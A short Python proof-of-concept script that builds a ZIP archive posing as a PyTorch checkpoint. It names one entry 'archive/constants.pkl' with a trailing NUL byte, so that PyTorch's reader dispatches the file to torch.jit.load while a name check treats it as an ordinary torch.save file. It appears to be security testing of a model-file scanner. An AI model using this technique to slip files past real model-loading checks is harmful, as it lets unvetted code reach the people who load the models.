# "archive/constants.pkl\0" : PyTorchStreamReader::getAllRecords builds std::string from a char*
# (cut at the NUL) -> "constants.pkl" in get_all_records() -> torch.load dispatches to torch.jit.load.
# Our TorchScript check compares the full name, so the archive is accepted as a torch.save checkpoint.
import sys, os, struct, zlib
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__))); sys.path.insert(1, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'round7'))
from zlib7 import lh, ch, eocd
out = sys.argv[1]
benign = b'\x80\x02}q\x00.'
recs = [(b'archive/data.pkl', benign), (b'archive/version', b'3\n'), (b'archive/constants.pkl\x00', b'x')]
f = bytearray(); cd = b''
for name, data in recs:
    off = len(f); f += lh(name, len(data), len(data), zlib.crc32(data)); f += data
    cd += ch(name, len(data), len(data), off, zlib.crc32(data))
cdoff = len(f); f += cd; f += eocd(len(recs), len(cd), cdoff)
open(out, 'wb').write(f)
